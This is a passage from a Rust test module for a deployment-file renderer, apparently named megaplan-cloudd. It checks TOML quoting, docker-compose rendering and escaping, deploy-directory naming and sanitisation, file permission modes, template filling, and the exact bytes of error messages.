                let out = run_with_stdin(
                    Command::new("python3").args([
                        "-c",
                        "import sys, tomllib, json; print(json.dumps(tomllib.loads(sys.stdin.read())))",
                    ]),
                    config,
                );
                assert!(
                    out.status.success(),
                    "config.toml does not parse: {}\n{config}",
                    String::from_utf8_lossy(&out.stderr)
                );
            }
        }
    }

    #[test]
    fn toml_quote_escapes_everything_toml_forbids_raw() {
        assert_eq!(toml_quote("plain"), "\"plain\"");
        assert_eq!(
            toml_quote("a\"b\\c\nd\te\u{7f}f\u{1}"),
            "\"a\\\"b\\\\c\\nd\\te\\u007Ff\\u0001\""
        );
    }

    #[test]
    fn compose_file_parses_with_the_documented_keys() {
        let yaml = "provider: local\nrepo:\n  url: x\n  workspace: \"/work space/$HOME: app\"\nlocal:\n  workdir: \"my dir\"\nresources:\n  port: 9100\n";
        let compose = text(&render(&spec(yaml)).unwrap(), COMPOSE_FILE);
        let doc = crate::yaml::parse(&compose).unwrap();
        let agent = &doc["services"]["agent"];
        assert_eq!(agent["build"]["context"], ".");
        // `$` doubled: compose would otherwise interpolate $HOME.
        assert_eq!(agent["working_dir"], "/work space/$$HOME: app");
        assert_eq!(agent["env_file"], serde_json::json!([".env"]));
        assert_eq!(agent["ports"], serde_json::json!(["9100:9100"]));
        assert_eq!(
            agent["volumes"],
            serde_json::json!([{"type": "bind", "source": "./my dir", "target": "/work space/$$HOME: app"}])
        );
        assert!(agent.get("network_mode").is_none());
    }

    #[test]
    fn compose_network_none_drops_the_port_mapping() {
        let none = text(
            &render(&spec(&format!(
                "provider: local\n{MINIMAL}resources:\n  network: none\n"
            )))
            .unwrap(),
            COMPOSE_FILE,
        );
        let agent = crate::yaml::parse(&none).unwrap()["services"]["agent"].clone();
        assert_eq!(agent["network_mode"], "none");
        assert!(agent.get("ports").is_none(), "{none}");

        let named = text(
            &render(&spec(&format!(
                "provider: local\n{MINIMAL}resources:\n  network: my-net\n"
            )))
            .unwrap(),
            COMPOSE_FILE,
        );
        let agent = crate::yaml::parse(&named).unwrap()["services"]["agent"].clone();
        assert_eq!(agent["network_mode"], "my-net");
        assert_eq!(agent["ports"], serde_json::json!(["8080:8080"]));
    }

    #[test]
    fn deploy_dirs_per_provider() {
        let home = Path::new("/h/.megaplan/cloud");
        let local = spec(&format!(
            "provider: local\n{MINIMAL}local:\n  compose_project: proj-1\n"
        ));
        assert_eq!(
            persistent_deploy_dir(&local, home),
            Some(PathBuf::from("/h/.megaplan/cloud/proj-1"))
        );
        let ssh = spec(&format!(
            "provider: ssh\nssh:\n  host: box.example\n{MINIMAL}"
        ));
        assert_eq!(
            persistent_deploy_dir(&ssh, home),
            Some(PathBuf::from("/h/.megaplan/cloud/ssh-box.example"))
        );
        let slash = spec(&format!("provider: ssh\nssh:\n  host: a/../b\n{MINIMAL}"));
        assert_eq!(
            persistent_deploy_dir(&slash, home),
            Some(PathBuf::from("/h/.megaplan/cloud/ssh-a_.._b"))
        );
        assert_eq!(persistent_deploy_dir(&spec(MINIMAL), home), None);
    }

    #[test]
    fn write_deploy_dir_writes_modes_and_leaves_other_files_alone() {
        let root = tempfile::tempdir().unwrap();
        let dir = root.path().join("cloud").join("megaplan-cloud");
        let s = spec(&format!("provider: local\n{MINIMAL}"));

        let written = write_deploy_dir(&s, &dir).unwrap();
        assert_eq!(
            written,
            [DOCKERFILE, ENTRYPOINT, HEALTH_SERVER, COMPOSE_FILE].map(|n| dir.join(n))
        );
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode(&dir), 0o700);
        assert_eq!(mode(&dir.join(ENTRYPOINT)), 0o755);
        assert_eq!(mode(&dir.join(DOCKERFILE)), 0o644);
        assert_eq!(mode(&dir.join(ENV_FILE)), 0o600);
        assert!(dir.join("workspace").is_dir());
        for f in render(&s).unwrap() {
            assert_eq!(std::fs::read(dir.join(&f.name)).unwrap(), f.content);
        }

        // A second write (after a deploy filled .env and the runner wrote the workspace)
        // replaces the rendered files and nothing else, and leaves no temp files behind.
        std::fs::write(dir.join(ENV_FILE), "PORT=8080\nOPENAI_API_KEY=sk-test\n").unwrap();
        std::fs::write(dir.join("workspace").join("notes.txt"), "keep me").unwrap();
        std::fs::write(dir.join(DOCKERFILE), "stale").unwrap();
        std::fs::set_permissions(dir.join(ENTRYPOINT), std::fs::Permissions::from_mode(0o600))
            .unwrap();
        write_deploy_dir(&s, &dir).unwrap();
        assert_eq!(
            std::fs::read_to_string(dir.join(ENV_FILE)).unwrap(),
            "PORT=8080\nOPENAI_API_KEY=sk-test\n"
        );
        assert_eq!(
            std::fs::read_to_string(dir.join("workspace").join("notes.txt")).unwrap(),
            "keep me"
        );
        assert_ne!(std::fs::read(dir.join(DOCKERFILE)).unwrap(), b"stale");
        assert_eq!(mode(&dir.join(ENTRYPOINT)), 0o755);
        let mut entries: Vec<String> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        entries.sort();
        assert_eq!(
            entries,
            [
                ".env",
                "Dockerfile",
                "docker-compose.yaml",
                "entrypoint.sh",
                "health_server.py",
                "workspace"
            ]
        );
    }

    #[test]
    fn write_deploy_dir_for_ssh_creates_no_env_file() {
        let root = tempfile::tempdir().unwrap();
        let dir = root.path().join("ssh-box");
        let s = spec(&format!("provider: ssh\nssh:\n  host: box\n{MINIMAL}"));
        write_deploy_dir(&s, &dir).unwrap();
        assert!(!dir.join(ENV_FILE).exists());
        assert!(!dir.join(COMPOSE_FILE).exists());
    }

    #[test]
    fn write_deploy_dir_reports_an_unwritable_dir() {
        let root = tempfile::tempdir().unwrap();
        let blocker = root.path().join("file");
        std::fs::write(&blocker, "not a dir").unwrap();
        let err =
            ErrorBody::from(write_deploy_dir(&spec(MINIMAL), &blocker.join("deploy")).unwrap_err());
        assert_eq!(err.error, ErrorCode::StorageFailed);
        assert!(err.message.contains("deploy"), "{err}");
    }

    #[test]
    fn fill_is_one_pass_and_strict() {
        assert_eq!(
            fill(
                "t",
                "a {{X}} b {{Y}} {{ not }} {{}} ${x}",
                &[("X", "{{Y}}"), ("Y", "y")]
            )
            .unwrap(),
            "a {{Y}} b y {{ not }} {{}} ${x}"
        );
        let missing = fill("t", "{{X}}", &[]).unwrap_err();
        assert_eq!(missing.code(), ErrorCode::Internal);
        assert!(missing.to_string().contains("{{X}}"), "{missing}");
        let unused = fill("t", "none", &[("X", "x")]).unwrap_err();
        assert!(unused.to_string().contains("{{X}}"), "{unused}");
    }

    /// Each variant's wire error, byte for byte, as this module built it before `RenderError`
    /// existed (the end-to-end tests pin these codes and fields).
    #[test]
    fn every_variant_keeps_its_wire_bytes() {
        use ErrorCode as C;
        let cases: Vec<(RenderError, ErrorBody)> = vec![
            (
                RenderError::DockerfileUnreadable {
                    spec_file: "/p/cloud.yaml".into(),
                    dockerfile: "/p/My.Dockerfile".into(),
                    why: "No such file or directory (os error 2)".into(),
                },
                ErrorBody::new(
                    C::InvalidSpec,
                    "/p/cloud.yaml: cannot read image.dockerfile /p/My.Dockerfile: No such file or directory (os error 2); fix the path (absolute, or relative to the cloud.yaml folder) or remove image.dockerfile to use the rendered Dockerfile",
                )
                .with("field", "image.dockerfile")
                .with("file", "/p/My.Dockerfile"),
            ),
            (
                RenderError::BadBaseImage {
                    spec_file: "/p/cloud.yaml".into(),
                    base: "a b".into(),
                },
                ErrorBody::new(
                    C::InvalidSpec,
                    "/p/cloud.yaml: image.base must be one image reference such as python:3.11-slim-bookworm, found \"a b\"",
                )
                .with("field", "image.base"),
            ),
            (
                RenderError::UnknownToolchain {
                    spec_file: "/p/cloud.yaml".into(),
                    alias: "cobol".into(),
                },
                ErrorBody::new(
                    C::InvalidSpec,
                    format!(
                        "/p/cloud.yaml: unknown toolchain alias \"cobol\"; known aliases: {}",
                        crate::cloud_yaml::TOOLCHAIN_ALIASES.join(", ")
                    ),
                )
                .with("field", "toolchains"),
            ),
            (
                RenderError::Storage {
                    path: "/h/deploy".into(),
                    action: "create the deploy dir",
                    why: "Not a directory (os error 20)".into(),
                },
                ErrorBody::new(
                    C::StorageFailed,
                    "cannot create the deploy dir at /h/deploy: Not a directory (os error 20); check that the folder is writable and the disk has space (or set $MEGAPLAN_CLOUD_HOME)",
                )
                .with("path", "/h/deploy"),
            ),
            (
                RenderError::PlaceholderWithoutValue {
                    template: "t".into(),
                    key: "X".into(),
                },
                ErrorBody::new(
                    C::Internal,
                    "template t has a placeholder {{X}} with no value; this is a megaplan-cloudd bug",
                ),
            ),
            (
                RenderError::ValueWithoutPlaceholder {
                    template: "t".into(),
                    key: "X".into(),
                },
                ErrorBody::new(
                    C::Internal,
                    "template t has no placeholder {{X}}; this is a megaplan-cloudd bug",
                ),
            ),
        ];
        crate::cloud_yaml::error::assert_keeps_wire_bytes(cases, RenderError::code);
    }
}
